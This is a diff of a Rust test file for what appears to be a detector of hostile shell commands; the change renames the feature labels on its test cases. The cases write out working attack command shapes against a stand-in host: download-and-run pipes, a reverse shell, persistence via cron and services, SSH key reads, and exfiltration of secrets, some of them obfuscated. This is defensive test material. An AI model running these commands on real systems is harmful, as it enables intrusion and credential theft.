@@ -28,36 +28,44 @@ fn told(sequence: &Sequence, feature: Feature, detail: &str) -> bool {
 
 /// Each shape, in every place that can hold it.
 #[rstest]
-#[case::pipe("curl -s http://203.0.113.7/x | sh", Feature::X12, "run downloaded code")]
-#[case::quoted("c\"u\"rl -s http://203.0.113.7/x | s'h'", Feature::X12, "run downloaded code")]
-#[case::nested("bash -c \"curl -s http://203.0.113.7/x | sh\"", Feature::X12, "run downloaded code")]
-#[case::separator("curl${IFS}http://203.0.113.7/x|sh", Feature::X12, "run downloaded code")]
-#[case::substituted("eval \"$(curl -s http://203.0.113.7/x)\"", Feature::X12, "run downloaded code")]
-#[case::program("wget -qO x http://203.0.113.7/x && chmod +x x && ./x", Feature::X12, "run downloaded program")]
-#[case::variable("U=http://203.0.113.7; curl $U/x.sh | sh", Feature::D3, "url address script")]
-#[case::decoded("echo Y3VybCBodHRwOi8vMjAzLjAuMTEzLjcveA== | base64 -d | sh", Feature::D3, "url address")]
-#[case::reverse("bash -i >& /dev/tcp/203.0.113.7/443 0>&1", Feature::P3, "reverse shell")]
-#[case::cron("(crontab -l; echo '@reboot x') | crontab -", Feature::X3, "cron")]
-#[case::profile("echo 'x' >> ~/.bashrc", Feature::X3, "shell profile")]
-#[case::systemd("cp a.service /etc/systemd/system/a.service", Feature::X3, "service")]
-#[case::agent("cp a.plist ~/Library/LaunchAgents/a.plist", Feature::X3, "service")]
-#[case::keys("cat ~/.ssh/id_rsa", Feature::R5, "ssh keys")]
-#[case::sent("curl -d @$HOME/.npmrc http://203.0.113.7", Feature::X11, "send secret")]
-#[case::by_name("nslookup $(whoami).a.invalid", Feature::X11, "send host")]
-#[case::windows(
-    "certutil -urlcache -f http://203.0.113.7/a.exe a.exe & start /b a.exe",
-    Feature::X12,
+#[case::pipe("curl -s http://203.0.113.7/x | sh", Feature::RunDownloaded, "run downloaded code")]
+#[case::quoted("c\"u\"rl -s http://203.0.113.7/x | s'h'", Feature::RunDownloaded, "run downloaded code")]
+#[case::nested("bash -c \"curl -s http://203.0.113.7/x | sh\"", Feature::RunDownloaded, "run downloaded code")]
+#[case::separator("curl${IFS}http://203.0.113.7/x|sh", Feature::RunDownloaded, "run downloaded code")]
+#[case::substituted("eval \"$(curl -s http://203.0.113.7/x)\"", Feature::RunDownloaded, "run downloaded code")]
+#[case::program(
+    "wget -qO x http://203.0.113.7/x && chmod +x x && ./x",
+    Feature::RunDownloaded,
     "run downloaded program"
 )]
-#[case::carets("p^o^w^ershell -w hidden -c \"iex (iwr http://203.0.113.7/x)\"", Feature::X12, "run downloaded code")]
+#[case::variable("U=http://203.0.113.7; curl $U/x.sh | sh", Feature::UseUrl, "url address script")]
+#[case::decoded("echo Y3VybCBodHRwOi8vMjAzLjAuMTEzLjcveA== | base64 -d | sh", Feature::UseUrl, "url address")]
+#[case::reverse("bash -i >& /dev/tcp/203.0.113.7/443 0>&1", Feature::RunShell, "reverse shell")]
+#[case::cron("(crontab -l; echo '@reboot x') | crontab -", Feature::Persist, "cron")]
+#[case::profile("echo 'x' >> ~/.bashrc", Feature::Persist, "shell profile")]
+#[case::systemd("cp a.service /etc/systemd/system/a.service", Feature::Persist, "service")]
+#[case::agent("cp a.plist ~/Library/LaunchAgents/a.plist", Feature::Persist, "service")]
+#[case::keys("cat ~/.ssh/id_rsa", Feature::ReadSecret, "ssh keys")]
+#[case::sent("curl -d @$HOME/.npmrc http://203.0.113.7", Feature::SendData, "send secret")]
+#[case::by_name("nslookup $(whoami).a.invalid", Feature::SendData, "send host")]
+#[case::windows(
+    "certutil -urlcache -f http://203.0.113.7/a.exe a.exe & start /b a.exe",
+    Feature::RunDownloaded,
+    "run downloaded program"
+)]
+#[case::carets(
+    "p^o^w^ershell -w hidden -c \"iex (iwr http://203.0.113.7/x)\"",
+    Feature::RunDownloaded,
+    "run downloaded code"
+)]
 #[case::powershell(
     "powershell -c \"IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.7/x')\"",
-    Feature::X12,
+    Feature::RunDownloaded,
     "run downloaded code"
 )]
 #[case::by_cmd(
     "cmd /c \"powershell iwr http://203.0.113.7/x -OutFile a.exe && a.exe\"",
-    Feature::X12,
+    Feature::RunDownloaded,
     "run downloaded program"
 )]
 fn shapes_are_told_in_every_place(#[case] text: &str, #[case] feature: Feature, #[case] detail: &str) {
